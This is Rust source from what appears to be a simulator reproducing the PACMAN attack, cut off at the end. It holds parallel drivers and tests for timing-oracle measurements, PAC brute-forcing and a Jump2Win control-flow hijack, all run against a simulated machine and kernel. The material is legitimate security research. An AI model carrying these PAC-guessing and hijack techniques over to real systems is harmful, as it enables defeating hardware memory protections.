        Ok(PhaseOut {
            pac,
            guesses,
            syscalls: sys.machine.stats.syscalls - syscalls0,
            cycles: sys.machine.cycles - cycles0,
            crashes: sys.kernel.crash_count() - crashes0,
            telemetry: if record { shard_registry(&sys) } else { Registry::disabled() },
        })
    });
    let mut outs = outs.into_iter();
    let ia = outs.next().expect("two phase shards")?;
    let da = outs.next().expect("two phase shards")?;

    // Phases 3-4 on a fresh system with the caller's exact config (the
    // planted pointers only depend on the kernel seed, shared by all).
    let mut sys = shard_system(base, base.machine.seed, record);
    let syscalls0 = sys.machine.stats.syscalls;
    let cycles0 = sys.machine.cycles;
    let crashes0 = sys.kernel.crash_count();
    let hijacked = Jump2Win::plant_and_dispatch(&mut sys, ia.pac, da.pac)?;

    let mut telemetry = if record { Registry::new() } else { Registry::disabled() };
    telemetry.merge(&ia.telemetry);
    telemetry.merge(&da.telemetry);
    if record {
        telemetry.merge(&shard_registry(&sys));
    }
    let report = Jump2WinReport {
        pac_win: ia.pac,
        pac_vtable: da.pac,
        guesses_tested: ia.guesses + da.guesses,
        syscalls: ia.syscalls + da.syscalls + (sys.machine.stats.syscalls - syscalls0),
        cycles: ia.cycles + da.cycles + (sys.machine.cycles - cycles0),
        crashes: ia.crashes + da.crashes + (sys.kernel.crash_count() - crashes0),
        hijacked,
    };
    Ok((report, telemetry))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::CORRECT_MISS_THRESHOLD;

    fn quiet_config() -> SystemConfig {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        cfg
    }

    #[test]
    fn oracle_distribution_classifies_both_classes() {
        let out = oracle_distribution(&quiet_config(), Channel::Data, 1, 12, 2, false, |i, tp| {
            tp ^ (1 + i as u16)
        })
        .expect("distribution");
        assert_eq!(out.trials, 12);
        assert_eq!(out.correct_detected, 12);
        assert_eq!(out.incorrect_clean, 12);
        assert_eq!(out.crashes, 0);
        let good: u64 = out.correct_misses[CORRECT_MISS_THRESHOLD..].iter().sum();
        assert_eq!(good, 12);
        assert!(out.records.is_empty(), "not recording");
    }

    #[test]
    fn oracle_distribution_records_and_reindexes() {
        let out = oracle_distribution(&quiet_config(), Channel::Data, 1, 6, 3, true, |i, tp| {
            tp ^ (1 + i as u16)
        })
        .expect("distribution");
        assert_eq!(out.records.len(), 12, "two records per trial pair");
        for (i, r) in out.records.iter().enumerate() {
            assert_eq!(r.index, i as u64, "records are reindexed in shard order");
        }
        assert_eq!(out.telemetry.counter_value("oracle.trials"), 12);
    }

    #[test]
    fn parallel_brute_finds_the_pac_and_sums_costs() {
        let cfg = quiet_config();
        // Probe the true PAC's window; every shard sweeps its own slice.
        let mut probe = System::boot(cfg.clone());
        let set = probe.pick_quiet_dtlb_set();
        let target = probe.alloc_target(set);
        let true_pac = probe.true_pac(target);
        let candidates: Vec<u16> =
            (0..24u16).map(|i| true_pac.wrapping_sub(11).wrapping_add(i)).collect();
        let out =
            parallel_brute(&cfg, Channel::Data, 1, &candidates, 2, false).expect("parallel brute");
        assert_eq!(out.target, target);
        assert_eq!(out.true_pac, true_pac);
        assert_eq!(out.outcome.found, Some(true_pac));
        assert_eq!(out.outcome.crashes, 0);
        assert!(out.outcome.syscalls > 0 && out.outcome.cycles > 0);
        // Shards past the hit still sweep: total >= the serial early-exit count.
        assert!(out.outcome.guesses_tested >= 12);
    }

    #[test]
    fn parallel_accuracy_tallies_runs() {
        let out = parallel_accuracy(&quiet_config(), Channel::Data, 1, 6, 2, |run, tp| {
            let start = tp.wrapping_sub(2).wrapping_add((run % 2) as u16);
            (0..6u16).map(|i| start.wrapping_add(i)).collect()
        })
        .expect("accuracy");
        assert_eq!(out.runs, 6);
        assert_eq!(out.true_positives + out.false_positives + out.false_negatives, 6);
        assert_eq!(out.false_positives, 0);
        assert_eq!(out.crashes, 0);
    }

    #[test]
    fn parallel_sweep_reproduces_the_serial_knees() {
        let (series, reg) = parallel_sweep(SweepKind::DataTlb, &[256, 2048], 2).expect("sweep");
        assert_eq!(series[0].knee_above(90), Some(12), "finding 1 survives parallelism");
        assert_eq!(series[1].knee_above(110), Some(23), "finding 2 survives parallelism");
        assert!(!reg.is_empty(), "machine telemetry merged");
        let (instr, _) = parallel_sweep(SweepKind::Itlb, &[32], 2).expect("itlb sweep");
        assert_eq!(instr[0].knee_below(90), Some(4), "finding 3 survives parallelism");
    }
}
