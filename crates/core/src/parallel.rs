//! Parallel experiment drivers over the `pacman-runner` execution layer.
//!
//! Every driver here follows the same recipe:
//!
//! 1. cut the trial space into [`pacman_runner::DEFAULT_SHARDS`]
//!    contiguous shards (a pure function of the workload and the base
//!    seed — never of the worker count);
//! 2. boot one fresh [`System`] per shard whose *machine* seed is the
//!    shard seed (`mix64(base, shard_index)`) while the *kernel* seed is
//!    untouched, so PAC keys, target addresses and ground truth are
//!    identical on every shard and only the noise/jitter streams differ;
//! 3. run the shard's trials independently under the caller's
//!    [`Tolerance`]: panics are isolated per attempt, transient failures
//!    (including deterministically injected ones) retry within the
//!    [`RetryPolicy`](crate::fault::RetryPolicy) budget, and a shard
//!    that exhausts its budget surfaces as a typed
//!    [`ExperimentError::Shards`] partial-result report instead of a
//!    process abort;
//! 4. merge the per-shard outputs **in shard order** with
//!    order-insensitive operations: counters add, histograms fold
//!    bucket-wise ([`Registry::merge`]), trial logs concatenate and
//!    reindex.
//!
//! Consequence: for a fixed base seed the merged aggregate is identical
//! for `jobs = 1` and `jobs = N` — and, because a retried attempt reruns
//! the identical shard work on the identical experiment seed, identical
//! to the fault-free run even when injected faults forced retries. The
//! `parallel_determinism` integration tests pin both properties.

use std::sync::Arc;

use pacman_runner::{
    run_shards_tolerant, shard_plan, Executor, RunnerBackend, RunnerError, Shard, ShardedOutcome,
    DEFAULT_SHARDS,
};
use pacman_telemetry::Registry;
use pacman_uarch::Trap;

use crate::brute::{BruteForcer, BruteOutcome, BruteVerdict};
use crate::cache_probe::{quiet_target_offset, CacheDataPacOracle};
use crate::fault::{FaultSite, Tolerance, SPIKE_CYCLES};
use crate::jump2win::{Jump2Win, Jump2WinError, Jump2WinReport};
use crate::oracle::{DataPacOracle, InstrPacOracle, OracleError, PacOracle};
use crate::pool::{self, PooledSystem};
use crate::sweep::{
    cache_tlb_series, data_tlb_series, experiment_machine, itlb_series, SweepSeries,
};
use crate::system::{System, SystemConfig};
use crate::telemetry::{recorded_test_pac, TrialLog, TrialRecord};

pub use pacman_runner::ShardError;

/// A typed partial-result report: what completed, what failed and why,
/// after the retry budget ran out on at least one shard.
#[derive(Clone, Debug)]
pub struct PartialFailure {
    /// Shards in the plan.
    pub total: usize,
    /// Shards that completed (their results are discarded — a partial
    /// aggregate would silently change the experiment's statistics).
    pub completed: usize,
    /// Retries spent across all shards before giving up.
    pub retries: u64,
    /// Permanent per-shard failures, in shard order (cancelled shards
    /// included).
    pub failures: Vec<ShardError>,
}

impl std::fmt::Display for PartialFailure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let permanent = self.failures.iter().filter(|e| !e.cancelled).count();
        let cancelled = self.failures.len() - permanent;
        write!(
            f,
            "{} of {} shards completed ({} failed permanently, {} cancelled, {} retries)",
            self.completed, self.total, permanent, cancelled, self.retries
        )
    }
}

/// The workspace experiment error: everything a parallel driver can
/// fail with, typed.
#[derive(Debug)]
pub enum ExperimentError {
    /// An oracle build/measure error escaped a shard (only via the
    /// shard-failure path; see [`ExperimentError::Shards`]).
    Oracle(OracleError),
    /// An architectural trap from a sweep machine.
    Trap(Trap),
    /// A Jump2Win phase error.
    Jump2Win(Jump2WinError),
    /// The execution engine itself failed (poisoned/unfilled slots).
    Runner(RunnerError),
    /// An injected timing-noise spike corrupted this attempt's
    /// measurements; the attempt is discarded and retried.
    InjectedSpike {
        /// The spiked shard.
        shard: usize,
        /// Timed accesses the spike inflated during the attempt.
        spikes: u64,
    },
    /// At least one shard exhausted its retry budget: the experiment
    /// aborted with a partial-result report instead of a panic.
    Shards(PartialFailure),
}

impl std::fmt::Display for ExperimentError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ExperimentError::Oracle(e) => write!(f, "oracle error: {e}"),
            ExperimentError::Trap(t) => write!(f, "machine trap: {t:?}"),
            ExperimentError::Jump2Win(e) => write!(f, "jump2win error: {e}"),
            ExperimentError::Runner(e) => write!(f, "runner error: {e}"),
            ExperimentError::InjectedSpike { shard, spikes } => write!(
                f,
                "injected timing-noise spike corrupted {spikes} timed accesses on shard {shard}"
            ),
            ExperimentError::Shards(p) => write!(f, "sharded experiment failed: {p}"),
        }
    }
}

impl std::error::Error for ExperimentError {}

impl From<OracleError> for ExperimentError {
    fn from(e: OracleError) -> Self {
        ExperimentError::Oracle(e)
    }
}

impl From<Trap> for ExperimentError {
    fn from(t: Trap) -> Self {
        ExperimentError::Trap(t)
    }
}

impl From<Jump2WinError> for ExperimentError {
    fn from(e: Jump2WinError) -> Self {
        ExperimentError::Jump2Win(e)
    }
}

impl From<RunnerError> for ExperimentError {
    fn from(e: RunnerError) -> Self {
        ExperimentError::Runner(e)
    }
}

/// Transmission channel selector for the parallel oracle drivers.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub enum Channel {
    /// dTLB channel, data PACMAN gadget (Figure 8(a)).
    Data,
    /// iTLB channel, instruction PACMAN gadget (Figure 8(b)).
    Instr,
    /// L1 data-cache channel (§4.1 generality).
    Cache,
}

impl Channel {
    /// Builds the channel's oracle with the given per-test sample count.
    ///
    /// # Errors
    ///
    /// Propagates construction failures from the oracle.
    pub fn oracle(
        self,
        sys: &mut System,
        samples: usize,
    ) -> Result<Box<dyn PacOracle>, OracleError> {
        Ok(match self {
            Channel::Data => Box::new(DataPacOracle::new(sys)?.with_samples(samples)),
            Channel::Instr => Box::new(InstrPacOracle::new(sys)?.with_samples(samples)),
            Channel::Cache => Box::new(CacheDataPacOracle::new(sys)?.with_samples(samples)),
        })
    }

    /// The target-page offset this channel monitors (the cache channel
    /// needs a quiet L1D set inside the page).
    fn target_offset(self) -> u64 {
        match self {
            Channel::Cache => quiet_target_offset(),
            _ => 0,
        }
    }
}

/// Leases one shard's [`System`]: the machine seed becomes the shard
/// seed (decorrelating noise streams), the kernel seed stays the
/// caller's (so keys, layout and ground truth match across shards). The
/// system comes from the calling worker's [`pool`] — a warm reboot when
/// a compatible machine is parked, a fresh boot otherwise; either way
/// the state is bit-identical to [`System::boot`].
pub fn shard_system(base: &SystemConfig, shard_seed: u64, record: bool) -> PooledSystem {
    shard_system_faulted(base, shard_seed, record, false)
}

/// Marks an armed timing-spike fault on the global flight recorder so a
/// fault drill's corrupted attempts show up on the trace timeline right
/// next to the `shard.retry` instants they cause.
fn note_spike(shard: usize, attempt: u32) {
    pacman_telemetry::trace::recorder().instant(
        "fault.spike",
        "fault",
        0,
        Some(shard as u64),
        vec![("attempt".to_string(), pacman_telemetry::json::Value::UInt(u64::from(attempt)))],
    );
}

/// [`shard_system`], optionally arming the injected timing-noise spike
/// on the shard machine (the attempt will run — exercising the uarch
/// path — and then be discarded).
fn shard_system_faulted(
    base: &SystemConfig,
    shard_seed: u64,
    record: bool,
    spiked: bool,
) -> PooledSystem {
    let mut cfg = base.clone();
    cfg.machine.seed = shard_seed;
    if spiked {
        cfg.machine.latency.fault_spike = SPIKE_CYCLES;
    }
    let mut sys = pool::lease(cfg);
    if record {
        sys.telemetry.set_enabled(true);
    }
    sys
}

/// Captures a shard's full registry (attack-level series + the machine's
/// microarchitectural totals) for merging into the aggregate.
fn shard_registry(sys: &System) -> Registry {
    let mut reg = sys.telemetry.clone();
    reg.set_enabled(true);
    sys.machine.export_telemetry(&mut reg);
    reg
}

/// Splits a tolerant outcome into values + retry count, or a typed
/// [`PartialFailure`] if any shard failed permanently.
pub(crate) fn collect_tolerant<T>(
    outcome: ShardedOutcome<T>,
) -> Result<(Vec<T>, u64), ExperimentError> {
    let retries = outcome.retries;
    let total = outcome.results.len();
    let mut values = Vec::with_capacity(total);
    let mut failures = Vec::new();
    for r in outcome.results {
        match r {
            Ok(v) => values.push(v),
            Err(e) => failures.push(e),
        }
    }
    if failures.is_empty() {
        Ok((values, retries))
    } else {
        Err(ExperimentError::Shards(PartialFailure {
            total,
            completed: values.len(),
            retries,
            failures,
        }))
    }
}

/// Records the execution-layer counters every JSONL metrics export
/// carries: retries spent, permanent shard failures (always 0 on the
/// success path — a permanent failure aborts with
/// [`ExperimentError::Shards`]) and injected faults.
pub(crate) fn record_runner_counters(reg: &mut Registry, retries: u64, tol: &Tolerance) {
    reg.incr_by("runner.retries", retries);
    reg.incr_by("runner.shard_failures", 0);
    reg.incr_by("runner.faults_injected", tol.faults.injected());
}

/// Per-shard completion notice streamed to campaign observers.
///
/// Observed drivers (e.g. [`oracle_distribution_observed`]) call their
/// observer once per shard, in shard order, the moment that shard's
/// output merges into the accumulator — on the executor backend that is
/// *while later shards still run*, riding the ordered event stream, so
/// a per-session consumer (the `pacmand` daemon) can forward progress
/// records incrementally instead of waiting for the end-of-run barrier.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub struct ShardProgress {
    /// The shard that just merged.
    pub shard: usize,
    /// Shards in the campaign plan.
    pub shards: usize,
    /// Shards merged so far (this one included).
    pub completed: usize,
    /// Attempts beyond the first so far, campaign-wide.
    pub retries: u64,
}

/// Runs one campaign on the session's [`RunnerBackend`] and folds the
/// per-shard outputs **in shard order** into an accumulator.
///
/// On the scoped-pool backend this is exactly the retained baseline:
/// [`run_shards_tolerant`] + [`collect_tolerant`] + a merge loop. On the
/// persistent executor the campaign is submitted to the process-wide
/// worker pool and the fold consumes the **ordered stream** of shard
/// events — shard `i` merges as soon as shards `0..=i` have reported,
/// while later shards still run, so no end-of-run barrier holds the
/// aggregation back. Both paths produce bit-identical accumulators and
/// the same typed errors: the fold is order-preserving and a permanent
/// shard failure still surfaces as [`ExperimentError::Shards`] with the
/// full partial-result report.
pub(crate) fn fold_campaign<T, A, F, M>(
    plan: &[Shard],
    jobs: usize,
    retry: crate::fault::RetryPolicy,
    work: F,
    init: A,
    merge: M,
) -> Result<(A, u64), ExperimentError>
where
    T: Send + 'static,
    F: Fn(&Shard, u32) -> Result<T, ExperimentError> + Send + Sync + 'static,
    M: FnMut(&mut A, usize, T),
{
    fold_campaign_observed(plan, jobs, retry, work, init, merge, &mut |_| {})
}

/// [`fold_campaign`] with a per-shard merge observer: `observe` fires
/// once per merged shard, in shard order. On the executor backend it
/// fires live from the ordered event stream; on the scoped pool the
/// whole batch has already completed when the merges run, so the
/// notifications arrive back to back after the barrier — same sequence,
/// different timing.
#[allow(clippy::too_many_arguments)]
pub(crate) fn fold_campaign_observed<T, A, F, M>(
    plan: &[Shard],
    jobs: usize,
    retry: crate::fault::RetryPolicy,
    work: F,
    init: A,
    mut merge: M,
    observe: &mut dyn FnMut(ShardProgress),
) -> Result<(A, u64), ExperimentError>
where
    T: Send + 'static,
    F: Fn(&Shard, u32) -> Result<T, ExperimentError> + Send + Sync + 'static,
    M: FnMut(&mut A, usize, T),
{
    let shards = plan.len();
    match RunnerBackend::current() {
        RunnerBackend::ScopedPool => {
            let outcome = run_shards_tolerant(plan, jobs, retry, work)?;
            let (values, retries) = collect_tolerant(outcome)?;
            let mut acc = init;
            for (i, v) in values.into_iter().enumerate() {
                merge(&mut acc, i, v);
                observe(ShardProgress { shard: i, shards, completed: i + 1, retries });
            }
            Ok((acc, retries))
        }
        RunnerBackend::Executor => {
            let total = plan.len();
            let handle = Executor::global().submit(plan.to_vec(), jobs, retry, work);
            let mut acc = init;
            let mut merged = 0usize;
            let mut failures: Vec<ShardError> = Vec::new();
            let mut stream = handle.ordered();
            // Not a `for` loop: the observer needs `stream.retries()`
            // between items, which a held `by_ref` borrow would forbid.
            #[allow(clippy::while_let_on_iterator)]
            while let Some((i, r)) = stream.next() {
                match r {
                    Ok(v) => {
                        merge(&mut acc, i, v);
                        merged += 1;
                        let retries = stream.retries();
                        observe(ShardProgress { shard: i, shards, completed: merged, retries });
                    }
                    Err(e) => failures.push(e),
                }
            }
            let retries = stream.retries();
            if let Some(shard) = stream.missing() {
                return Err(ExperimentError::Runner(RunnerError::MissingResult { shard }));
            }
            if failures.is_empty() {
                Ok((acc, retries))
            } else {
                Err(ExperimentError::Shards(PartialFailure {
                    total,
                    completed: merged,
                    retries,
                    failures,
                }))
            }
        }
    }
}

/// Concatenates shard trial logs in shard order and reindexes them into
/// one global sequence.
fn merge_logs(logs: impl IntoIterator<Item = Vec<TrialRecord>>) -> Vec<TrialRecord> {
    let mut out: Vec<TrialRecord> = logs.into_iter().flatten().collect();
    for (i, r) in out.iter_mut().enumerate() {
        r.index = i as u64;
    }
    out
}

/// Number of miss-count buckets in the Figure 8 distributions (0..=12,
/// last bucket saturating).
pub const MISS_BUCKETS: usize = 13;

/// Merged result of a parallel oracle-distribution run.
#[derive(Clone, Debug)]
pub struct OracleDistribution {
    /// Trial pairs executed (one correct + one wrong guess each).
    pub trials: u64,
    /// Correct-guess tests the oracle classified as correct.
    pub correct_detected: u64,
    /// Wrong-guess tests the oracle classified as incorrect.
    pub incorrect_clean: u64,
    /// Miss-count histogram of the correct-guess tests
    /// ([`MISS_BUCKETS`] buckets, last saturating).
    pub correct_misses: Vec<u64>,
    /// Miss-count histogram of the wrong-guess tests.
    pub incorrect_misses: Vec<u64>,
    /// Kernel crashes across all shards (must be zero).
    pub crashes: u64,
    /// Concatenated, reindexed per-trial records (empty unless recording).
    pub records: Vec<TrialRecord>,
    /// Merged attack + machine telemetry of every shard.
    pub telemetry: Registry,
    /// The (shard-invariant) target address and its true PAC.
    pub target: u64,
    /// Ground-truth PAC of [`OracleDistribution::target`].
    pub true_pac: u16,
}

struct OracleShardOut {
    correct_detected: u64,
    incorrect_clean: u64,
    correct_misses: [u64; MISS_BUCKETS],
    incorrect_misses: [u64; MISS_BUCKETS],
    crashes: u64,
    records: Vec<TrialRecord>,
    telemetry: Registry,
    target: u64,
    true_pac: u16,
}

/// Runs `trials` correct/wrong oracle test pairs sharded across `jobs`
/// workers (Figure 8 and the CLI `oracle` command).
///
/// `wrong_for(i, true_pac)` derives the wrong guess for global trial
/// index `i`, so the guess sequence is independent of sharding. With
/// `record` set, per-trial records and `oracle.*` telemetry are kept.
/// `tol` supplies the retry budget and (optional) fault injection.
///
/// # Errors
///
/// [`ExperimentError::Shards`] with a partial-result report when a
/// shard exhausts its retry budget; [`ExperimentError::Runner`] for
/// engine failures.
#[allow(clippy::too_many_arguments)]
pub fn oracle_distribution<F>(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    trials: usize,
    jobs: usize,
    record: bool,
    tol: &Tolerance,
    wrong_for: F,
) -> Result<OracleDistribution, ExperimentError>
where
    F: Fn(usize, u16) -> u16 + Send + Sync + 'static,
{
    oracle_distribution_observed(
        base,
        channel,
        samples,
        trials,
        jobs,
        record,
        tol,
        wrong_for,
        |_| {},
    )
}

/// [`oracle_distribution`] with a per-shard [`ShardProgress`] observer —
/// the per-session streaming hook the `pacmand` daemon uses to forward
/// incremental progress records while the campaign runs. On the
/// executor backend the observer fires as each ordered shard merges,
/// before later shards complete; results are bit-identical to the
/// unobserved driver.
///
/// # Errors
///
/// Same contract as [`oracle_distribution`].
#[allow(clippy::too_many_arguments)]
pub fn oracle_distribution_observed<F, O>(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    trials: usize,
    jobs: usize,
    record: bool,
    tol: &Tolerance,
    wrong_for: F,
    mut observe: O,
) -> Result<OracleDistribution, ExperimentError>
where
    F: Fn(usize, u16) -> u16 + Send + Sync + 'static,
    O: FnMut(ShardProgress),
{
    let tol = Arc::new(tol.clone());
    let plan = shard_plan(trials, DEFAULT_SHARDS, base.machine.seed);
    let work = {
        let base = base.clone();
        let tol = Arc::clone(&tol);
        move |shard: &Shard, attempt: u32| -> Result<OracleShardOut, ExperimentError> {
            let fa = tol.fault_attempt(attempt);
            tol.faults.maybe_panic(shard.index, fa);
            let spiked = tol.faults.fires(FaultSite::TimingSpike, shard.index as u64, fa);
            if spiked {
                note_spike(shard.index, fa);
            }
            let mut sys = shard_system_faulted(&base, shard.seed, record, spiked);
            let set = sys.pick_quiet_dtlb_set();
            let target = sys.alloc_target(set) + channel.target_offset();
            let true_pac = sys.true_pac(target);
            let mut oracle = channel.oracle(&mut sys, samples)?;
            let mut log = if record { TrialLog::new() } else { TrialLog::disabled() };
            let mut out = OracleShardOut {
                correct_detected: 0,
                incorrect_clean: 0,
                correct_misses: [0; MISS_BUCKETS],
                incorrect_misses: [0; MISS_BUCKETS],
                crashes: 0,
                records: Vec::new(),
                telemetry: Registry::disabled(),
                target,
                true_pac,
            };
            for i in shard.range() {
                let v = recorded_test_pac(
                    oracle.as_mut(),
                    &mut sys,
                    &mut log,
                    target,
                    true_pac,
                    Some(true_pac),
                )?;
                if v.is_correct() {
                    out.correct_detected += 1;
                }
                out.correct_misses[v.median_misses.min(MISS_BUCKETS - 1)] += 1;
                let wrong = wrong_for(i, true_pac);
                let v = recorded_test_pac(
                    oracle.as_mut(),
                    &mut sys,
                    &mut log,
                    target,
                    wrong,
                    Some(true_pac),
                )?;
                if !v.is_correct() {
                    out.incorrect_clean += 1;
                }
                out.incorrect_misses[v.median_misses.min(MISS_BUCKETS - 1)] += 1;
            }
            out.crashes = sys.kernel.crash_count();
            out.records = log.take();
            if record {
                out.telemetry = shard_registry(&sys);
            }
            if spiked {
                // The attempt ran to completion (exercising the spiked
                // timing path) but its measurements are corrupted: fail
                // the attempt so the whole shard — telemetry included —
                // is discarded and retried.
                return Err(ExperimentError::InjectedSpike {
                    shard: shard.index,
                    spikes: sys.machine.stats.fault_spikes,
                });
            }
            Ok(out)
        }
    };
    let init = OracleDistribution {
        trials: trials as u64,
        correct_detected: 0,
        incorrect_clean: 0,
        correct_misses: vec![0; MISS_BUCKETS],
        incorrect_misses: vec![0; MISS_BUCKETS],
        crashes: 0,
        records: Vec::new(),
        telemetry: if record { Registry::new() } else { Registry::disabled() },
        target: 0,
        true_pac: 0,
    };
    let ((mut merged, logs), retries) = fold_campaign_observed(
        &plan,
        jobs,
        tol.retry,
        work,
        (init, Vec::new()),
        |acc: &mut (OracleDistribution, Vec<Vec<TrialRecord>>), si, s: OracleShardOut| {
            let (merged, logs) = acc;
            if si == 0 {
                merged.target = s.target;
                merged.true_pac = s.true_pac;
            }
            merged.correct_detected += s.correct_detected;
            merged.incorrect_clean += s.incorrect_clean;
            for b in 0..MISS_BUCKETS {
                merged.correct_misses[b] += s.correct_misses[b];
                merged.incorrect_misses[b] += s.incorrect_misses[b];
            }
            merged.crashes += s.crashes;
            merged.telemetry.merge(&s.telemetry);
            logs.push(s.records);
        },
        &mut observe,
    )?;
    merged.records = merge_logs(logs);
    record_runner_counters(&mut merged.telemetry, retries, &tol);
    Ok(merged)
}

/// Merged result of a parallel brute-force sweep.
#[derive(Clone, Debug)]
pub struct ParallelBrute {
    /// Aggregate outcome: costs summed over every shard; `found` is the
    /// hit from the lowest candidate range (shards never early-exit each
    /// other, so the aggregate is jobs-independent).
    pub outcome: BruteOutcome,
    /// The (shard-invariant) target address.
    pub target: u64,
    /// Ground-truth PAC of the target.
    pub true_pac: u16,
    /// Merged attack + machine telemetry of every shard.
    pub telemetry: Registry,
}

/// Shards `candidates` contiguously and sweeps every shard to completion
/// (§8.2 speed protocol and the CLI `brute` command).
///
/// Unlike the serial [`BruteForcer::brute`], a hit in one shard does not
/// stop the others — total work is therefore a pure function of the
/// candidate list, which is what makes the jobs=1 and jobs=N aggregates
/// identical (and what a real parallel attacker pays anyway, since
/// cross-worker cancellation is racy).
///
/// # Errors
///
/// [`ExperimentError::Shards`] with a partial-result report when a
/// shard exhausts its retry budget.
pub fn parallel_brute(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    candidates: &[u16],
    jobs: usize,
    record: bool,
    tol: &Tolerance,
) -> Result<ParallelBrute, ExperimentError> {
    struct ShardOut {
        outcome: BruteOutcome,
        target: u64,
        true_pac: u16,
        telemetry: Registry,
    }
    let tol = Arc::new(tol.clone());
    let candidates: Arc<[u16]> = candidates.into();
    let plan = shard_plan(candidates.len(), DEFAULT_SHARDS, base.machine.seed);
    let work = {
        let base = base.clone();
        let tol = Arc::clone(&tol);
        let candidates = Arc::clone(&candidates);
        move |shard: &Shard, attempt: u32| -> Result<ShardOut, ExperimentError> {
            let fa = tol.fault_attempt(attempt);
            tol.faults.maybe_panic(shard.index, fa);
            let spiked = tol.faults.fires(FaultSite::TimingSpike, shard.index as u64, fa);
            if spiked {
                note_spike(shard.index, fa);
            }
            let mut sys = shard_system_faulted(&base, shard.seed, record, spiked);
            let set = sys.pick_quiet_dtlb_set();
            let target = sys.alloc_target(set) + channel.target_offset();
            let true_pac = sys.true_pac(target);
            let oracle = channel.oracle(&mut sys, samples)?;
            let mut bf = BruteForcer::new(oracle);
            let outcome = bf.brute(&mut sys, target, candidates[shard.range()].iter().copied())?;
            let telemetry = if record { shard_registry(&sys) } else { Registry::disabled() };
            if spiked {
                return Err(ExperimentError::InjectedSpike {
                    shard: shard.index,
                    spikes: sys.machine.stats.fault_spikes,
                });
            }
            Ok(ShardOut { outcome, target, true_pac, telemetry })
        }
    };
    let init = ParallelBrute {
        outcome: BruteOutcome {
            found: None,
            guesses_tested: 0,
            syscalls: 0,
            cycles: 0,
            crashes: 0,
        },
        target: 0,
        true_pac: 0,
        telemetry: if record { Registry::new() } else { Registry::disabled() },
    };
    let (mut merged, retries) =
        fold_campaign(&plan, jobs, tol.retry, work, init, |merged: &mut ParallelBrute, si, s| {
            if si == 0 {
                merged.target = s.target;
                merged.true_pac = s.true_pac;
            }
            if merged.outcome.found.is_none() {
                merged.outcome.found = s.outcome.found;
            }
            merged.outcome.guesses_tested += s.outcome.guesses_tested;
            merged.outcome.syscalls += s.outcome.syscalls;
            merged.outcome.cycles += s.outcome.cycles;
            merged.outcome.crashes += s.outcome.crashes;
            merged.telemetry.merge(&s.telemetry);
        })?;
    record_runner_counters(&mut merged.telemetry, retries, &tol);
    Ok(merged)
}

/// Merged result of a parallel accuracy evaluation (§8.2).
#[derive(Clone, Debug)]
pub struct AccuracyOutcome {
    /// Brute-force runs executed.
    pub runs: u64,
    /// Runs that found the true PAC.
    pub true_positives: u64,
    /// Runs that reported a wrong PAC (intolerable).
    pub false_positives: u64,
    /// Runs that found nothing (tolerable, retry).
    pub false_negatives: u64,
    /// Kernel crashes across all shards.
    pub crashes: u64,
    /// Merged attack + machine telemetry of every shard.
    pub telemetry: Registry,
}

/// Runs `runs` independent brute-force windows sharded across `jobs`
/// workers and tallies TP/FP/FN (the §8.2 accuracy protocol).
///
/// `window_for(run, true_pac)` builds run `run`'s candidate window, so
/// the windows are independent of sharding.
///
/// # Errors
///
/// [`ExperimentError::Shards`] with a partial-result report when a
/// shard exhausts its retry budget.
pub fn parallel_accuracy<F>(
    base: &SystemConfig,
    channel: Channel,
    samples: usize,
    runs: usize,
    jobs: usize,
    tol: &Tolerance,
    window_for: F,
) -> Result<AccuracyOutcome, ExperimentError>
where
    F: Fn(usize, u16) -> Vec<u16> + Send + Sync + 'static,
{
    struct ShardOut {
        tp: u64,
        fp: u64,
        fneg: u64,
        crashes: u64,
        telemetry: Registry,
    }
    let tol = Arc::new(tol.clone());
    let plan = shard_plan(runs, DEFAULT_SHARDS, base.machine.seed);
    let work = {
        let base = base.clone();
        let tol = Arc::clone(&tol);
        move |shard: &Shard, attempt: u32| -> Result<ShardOut, ExperimentError> {
            let fa = tol.fault_attempt(attempt);
            tol.faults.maybe_panic(shard.index, fa);
            let spiked = tol.faults.fires(FaultSite::TimingSpike, shard.index as u64, fa);
            if spiked {
                note_spike(shard.index, fa);
            }
            let mut sys = shard_system_faulted(&base, shard.seed, true, spiked);
            let set = sys.pick_quiet_dtlb_set();
            let target = sys.alloc_target(set) + channel.target_offset();
            let true_pac = sys.true_pac(target);
            let oracle = channel.oracle(&mut sys, samples)?;
            let mut bf = BruteForcer::new(oracle);
            let (mut tp, mut fp, mut fneg) = (0u64, 0u64, 0u64);
            for run in shard.range() {
                let window = window_for(run, true_pac);
                let outcome = bf.brute(&mut sys, target, window)?;
                match BruteForcer::<Box<dyn PacOracle>>::classify(&outcome, true_pac) {
                    BruteVerdict::TruePositive => tp += 1,
                    BruteVerdict::FalsePositive => fp += 1,
                    BruteVerdict::FalseNegative => fneg += 1,
                }
            }
            let crashes = sys.kernel.crash_count();
            let telemetry = shard_registry(&sys);
            if spiked {
                return Err(ExperimentError::InjectedSpike {
                    shard: shard.index,
                    spikes: sys.machine.stats.fault_spikes,
                });
            }
            Ok(ShardOut { tp, fp, fneg, crashes, telemetry })
        }
    };
    let init = AccuracyOutcome {
        runs: runs as u64,
        true_positives: 0,
        false_positives: 0,
        false_negatives: 0,
        crashes: 0,
        telemetry: Registry::new(),
    };
    let (mut merged, retries) =
        fold_campaign(&plan, jobs, tol.retry, work, init, |merged: &mut AccuracyOutcome, _, s| {
            merged.true_positives += s.tp;
            merged.false_positives += s.fp;
            merged.false_negatives += s.fneg;
            merged.crashes += s.crashes;
            merged.telemetry.merge(&s.telemetry);
        })?;
    record_runner_counters(&mut merged.telemetry, retries, &tol);
    Ok(merged)
}

/// Which §7 sweep to run in parallel.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub enum SweepKind {
    /// Figure 5(a): data loads, cache-conflict-avoiding stride formula.
    DataTlb,
    /// Figure 5(b): data loads, raw strides (cache/TLB interaction).
    CacheTlb,
    /// Figure 5(c): instruction fetches, reload measured as data.
    Itlb,
}

/// Runs one §7 sweep with one fresh experiment machine **per stride**,
/// sharded across `jobs` workers. Series come back in stride order with
